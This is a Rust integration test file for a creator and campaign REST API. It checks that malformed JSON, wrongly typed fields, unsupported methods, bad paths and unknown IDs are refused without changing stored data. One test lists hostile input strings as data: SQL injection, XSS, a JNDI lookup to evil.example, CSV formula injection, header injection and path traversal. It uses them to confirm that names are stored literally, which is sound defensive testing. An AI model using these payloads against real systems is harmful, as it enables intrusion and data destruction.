//! Everything that may be wrong with a request: always the one error body, never a fault of ours, nothing half-written.

use axum::body::Body;
use axum::http::Method;
use serde_json::{Value, json};
use testkit::{Reply, both_engines};

use crate::document::{NOTHING, Route, There, routes};
use crate::world::What::{Demo, Empty};
use crate::world::{World, creator, encoded, fitband, text, with};

/// More than this not every route takes, in bytes.
const SMALL: usize = 60_000;

/// All that is stored, to see that nothing changed.
async fn stored(world: &World) -> (String, Vec<i64>) {
    let mut rows = Vec::new();
    for table in ["creators", "creator_vectors", "campaigns", "selections", "outreach_logs", "match_scores"] {
        rows.push(world.rows(table).await);
    }
    (world.client.get("/api/v1/creators/export").await.text(), rows)
}

async fn with_bodies(world: &World) -> Vec<Route> {
    let routes: Vec<_> =
        routes(world).await.into_iter().filter(|route| route.takes_json() && !route.wants_a_person()).collect();
    assert!(routes.len() >= 11, "{}", routes.len());
    routes
}

/// A body that cannot be read, and the status that says so.
fn unreadable() -> Vec<(&'static str, Vec<u8>, u16)> {
    let deep = |open: &str, close: &str, times: usize| [open.repeat(times), close.repeat(times)].concat().into_bytes();
    vec![
        ("nothing", b"".to_vec(), 400),
        ("space", b" \n".to_vec(), 400),
        ("half an object", b"{\"half\": ".to_vec(), 400),
        ("two objects", b"{} {}".to_vec(), 400),
        ("a trailing comma", b"{\"a\": 1,}".to_vec(), 400),
        ("broken UTF-8", b"{\"name\": \"\xff\xfe\"}".to_vec(), 400),
        ("half a pair", b"{\"name\": \"\\ud800\"}".to_vec(), 400),
        ("NaN", b"{\"total_budget\": NaN}".to_vec(), 400),
        ("a list 100,000 deep", deep("[", "]", 100_000), 400),
        ("an object 5,000 deep", deep("{\"a\":", "}", 5_000), 400),
        ("a form", b"name=Ana&platform=instagram".to_vec(), 400),
        ("null", b"null".to_vec(), 422),
        ("a list", b"[{}]".to_vec(), 422),
        ("a text", b"\"name\"".to_vec(), 422),
        ("a number beyond bounds", b"{\"total_budget\": 1e999}".to_vec(), 422),
        ("a key twice", b"{\"name\": 1, \"name\": 2}".to_vec(), 422),
        ("a key twice, deep", b"{\"a\": {\"b\": [{\"c\": 1, \"c\": 1}]}}".to_vec(), 422),
        ("10 MB", [b"{\"a\": \"".to_vec(), vec![b'x'; 10 << 20], b"\"}".to_vec()].concat(), 413),
    ]
}

#[both_engines(Demo)]
async fn bodies_that_cannot_be_read_are_refused_everywhere(world: World) {
    let there = There::of(&world).await;
    let before = stored(&world).await;
    for route in with_bodies(&world).await {
        let path = route.filled(&there);
        for (what, body, status) in unreadable() {
            let (size, is_empty) = (body.len(), body.iter().all(u8::is_ascii_whitespace));
            if is_empty && route.operation["requestBody"]["required"] != json!(true) {
                continue;
            }
            let reply = world.client.raw(route.method.clone(), &path, "application/json", body).await;
            // Where nothing stands in the path, that may be told first; and that it is too large, where little is taken.
            let sooner = (path.contains(NOTHING) && reply.status == 404) || (size > SMALL && reply.status == 413);
            let status = if sooner { reply.status } else { status };
            assert_eq!(reply.status, status, "{} with {what}: {}", route.label(), reply.text());
            reply.refused(status);
        }
        let huge = [b"{\"total_budget\": 1".to_vec(), vec![b'0'; 400], b"}".to_vec()].concat();
        let told = world.client.raw(route.method.clone(), &path, "application/json", huge).await;
        assert!([404, 422].contains(&told.status), "{}: {}", route.label(), told.text());
        for media_type in [
            "text/plain",
            "application/x-www-form-urlencoded",
            "multipart/form-data; boundary=x",
            "application/xml",
            "json",
        ] {
            let told = world.client.raw(route.method.clone(), &path, media_type, "{}").await;
            let takes = &route.operation["requestBody"]["content"];
            let takes_it = takes.get(media_type.split(';').next().unwrap_or_default()).is_some();
            assert!(
                takes_it || [404, 415].contains(&told.status),
                "{} with {media_type}: {}",
                route.label(),
                told.text()
            );
        }
    }
    assert_eq!(stored(&world).await, before);
}

#[both_engines(Demo)]
async fn fields_of_a_wrong_type_are_refused_one_by_one(world: World) {
    let there = There::of(&world).await;
    let before = stored(&world).await;
    let campaign = format!("/api/v1/campaigns/{}", there.campaign);
    let known = format!("/api/v1/creators/{}", there.creator);
    let wrong = |values: &[Value]| values.to_vec();
    let texts = wrong(&[
        json!(7),
        json!(true),
        json!([{"a": 1}]),
        json!({"a": "b"}),
        json!("a\u{0}b"),
        json!("x".repeat(20_001)),
    ]);
    let numbers =
        wrong(&[json!("7"), json!(true), json!([1]), json!({}), json!(-1), json!(1e300), json!(-1e300), json!("NaN")]);
    let lists = wrong(&[
        json!(7),
        json!({"a": 1}),
        json!([1]),
        json!([null]),
        json!([["a"]]),
        json!(["a\u{0}"]),
        json!(vec!["x"; 5000]),
    ]);
    for (path, method, body, fields, values) in [
        (
            "/api/v1/creators",
            Method::POST,
            creator("Ana", json!({})),
            &["name", "platform", "niche", "country", "about", "channel_name", "email", "language"][..],
            &texts,
        ),
        (
            "/api/v1/creators",
            Method::POST,
            creator("Ana", json!({})),
            &["engagement_rate", "rating", "collaboration_rate", "followers_count_numeric"],
            &numbers,
        ),
        ("/api/v1/creators", Method::POST, creator("Ana", json!({})), &["languages", "previous_brands"], &lists),
        (&known, Method::PUT, json!({}), &["name", "niche", "location", "audience_type"], &texts),
        (&known, Method::PUT, json!({}), &["engagement_rate", "rating", "collaboration_rate"], &numbers),
        (
            "/api/v1/campaigns",
            Method::POST,
            fitband(),
            &["product_name", "brand_name", "product_description", "target_audience", "campaign_goal", "status"],
            &texts,
        ),
        ("/api/v1/campaigns", Method::POST, fitband(), &["total_budget"], &numbers),
        (
            "/api/v1/campaigns",
            Method::POST,
            fitband(),
            &["excluded_niches", "excluded_platforms", "excluded_creators", "excluded_countries"],
            &lists,
        ),
        (&campaign, Method::PUT, json!({}), &["product_name", "product_description", "status"], &texts),
        (
            "/api/v1/creators/search",
            Method::POST,
            json!({}),
            &["query"],
            &wrong(&[
                json!(7),
                json!("a\u{0}"),
                json!("x".repeat(2001)),
                json!([]),
                json!({"search": 7}),
                json!({"platform": "x y"}),
                json!({"search": "\u{0}"}),
            ]),
        ),
        (
            "/api/v1/ai/similaritysearch",
            Method::POST,
            fitband(),
            &["product_name", "target_audience", "product_niche"],
            &texts,
        ),
        (
            "/api/v1/ai/similaritysearch",
            Method::POST,
            fitband(),
            &["total_budget", "min_followers", "max_followers", "min_engagement", "limit", "page"],
            &numbers,
        ),
    ] {
        for field in fields {
            for value in values {
                let mut body = with(body.clone(), json!({}));
                body[*field] = value.clone();
                if *field == "followers_count_numeric" {
                    body.as_object_mut().unwrap().remove("followers_count");
                }
                let reply = world.client.json(method.clone(), path, &body).await;
                let told: String = value.to_string().chars().take(60).collect();
                assert_eq!(reply.status, 422, "{method} {path} with {field}: {told}: {}", reply.text());
                let faults = reply.faults();
                assert!(
                    faults.iter().all(|fault| fault.split('.').next() == Some(*field)),
                    "{field}: {told}: {faults:?}"
                );
            }
        }
    }
    assert_eq!(stored(&world).await, before);
}

#[both_engines(Empty)]
async fn code_in_a_name_is_a_name(world: World) {
    for (number, name) in [
        "'; DROP TABLE \"creators\"; --",
        "Robert'); DELETE FROM \"campaigns\"; --",
        "<script>alert('x')</script>",
        "\"><img src=x onerror=alert(1)>",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}",
        "../../etc/passwd",
        "%s%n%x",
        "\\x00\\u0000",
        "=cmd|'/c calc'!A0",
        "a\r\nSet-Cookie: b=c",
        "\u{202e}gnp.exe",
        "Ω≈ç√∫˜µ≤≥÷",
        "𝓊𝓃𝒾𝒸𝑜𝒹𝑒",
        "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}",
        "null",
        "undefined",
        "NaN",
        "$1",
        "?",
        ":name",
    ]
    .into_iter()
    .enumerate()
    {
        let own = world
            .creator(
                name,
                json!({"about": name, "niche": name, "country": name, "channel_name": format!("{number}{name}")}),
            )
            .await;
        assert_eq!((&own["name"], &own["about"]), (&json!(name), &json!(name)));
        let profile = world.client.get(&format!("/api/v1/creators/{}", text(&own, "id"))).await.ok();
        assert_eq!((&profile["name"], &profile["about"]), (&json!(name), &json!(name)));
        let found = world.client.get(&format!("/api/v1/creators?search={}", encoded(name))).await.ok();
        assert!(
            found["creators"].as_array().unwrap().iter().any(|other| other["id"] == own["id"]),
            "{name} is found by its name"
        );
        let campaign =
            world.campaign(json!({"product_name": name, "brand_name": name, "excluded_brands": [name]})).await;
        assert_eq!((&campaign["product_name"], &campaign["brand_name"]), (&json!(name), &json!(name)));
        let of_brand = world.client.get(&format!("/api/v1/campaigns/brand/{}", encoded(name))).await;
        assert!(
            of_brand.ok()["campaigns"].as_array().unwrap().iter().any(|other| other["id"] == campaign["id"]),
            "{name}"
        );
        world.client.post("/api/v1/creators/search", &json!({"query": name})).await.ok();
    }
}

#[both_engines(Demo)]
async fn another_method_and_another_path_are_told(world: World) {
    let routes = routes(&world).await;
    let there = There::of(&world).await;
    let all = [Method::GET, Method::POST, Method::PUT, Method::PATCH, Method::DELETE, Method::OPTIONS, Method::TRACE];
    let before = stored(&world).await;
    for route in &routes {
        for method in &all {
            if routes.iter().any(|own| own.path == route.path && own.method == *method) {
                continue;
            }
            // One path may be another route's with a name in it: /creators/export is also /creators/{creator_id}.
            if *method != Method::PATCH && ["/export", "/import", "/search"].iter().any(|end| route.path.ends_with(end))
            {
                continue;
            }
            let reply = world.client.json(method.clone(), &route.filled(&there), &json!({})).await;
            assert_eq!(reply.status, 405, "{method} {}: {}", route.path, reply.text());
            reply.refused(405);
            assert!(!reply.header("allow").is_empty(), "{method} {}", route.path);
        }
    }
    for path in [
        "/nowhere",
        "/api",
        "/api/v1",
        "/api/v2/creators",
        "/api/v1/creators/a/b/c",
        "/api/v1/campaigns/brand",
        "/%2e%2e/etc/passwd",
        "/api/v1/Creators",
        "/docs/../../etc/passwd",
    ] {
        let reply: Reply = world.client.get(path).await;
        reply.refused(404);
        let reply = world.client.post(path, &json!({})).await;
        assert!([404, 405].contains(&reply.status), "{path}");
        reply.error();
    }
    for path in
        ["/api/v1/creators/%ff", "/api/v1/creators/%00", "/api/v1/campaigns/brand/%c3%28", "/api/v1/campaigns/a%00b"]
    {
        world.client.get(path).await.refused(400);
    }
    assert_eq!(stored(&world).await, before);
}

#[both_engines(Demo)]
async fn names_of_nothing_are_not_found_wherever_they_stand(world: World) {
    let nothing =
        ["0190a000-0000-7000-8000-000000000000", "CAMP-0", "CAMP-99999999999999999999", "nonsense", "'--", "0190a000"];
    for route in routes(&world).await.iter().filter(|route| route.path.contains("_id}") && !route.wants_a_person()) {
        for name in nothing {
            let path = route
                .path
                .split('/')
                .map(|part| if part.starts_with('{') { encoded(name) } else { part.to_owned() })
                .collect::<Vec<_>>()
                .join("/");
            let body = if route.path.contains("select") || route.path.contains("analysis") {
                json!({"influencer_id": nothing[0]})
            } else {
                json!({})
            };
            let reply = if route.takes_json() {
                world.client.json(route.method.clone(), &path, &body).await
            } else {
                world.client.ask(route.method.clone(), &path, None, Body::empty()).await
            };
            // A body that lacks something may be told before the name is looked up.
            let status = if route.takes_json() && reply.status == 422 { 422 } else { 404 };
            assert_eq!(reply.status, status, "{} {path}: {}", route.method, reply.text());
            reply.refused(status);
        }
    }
}
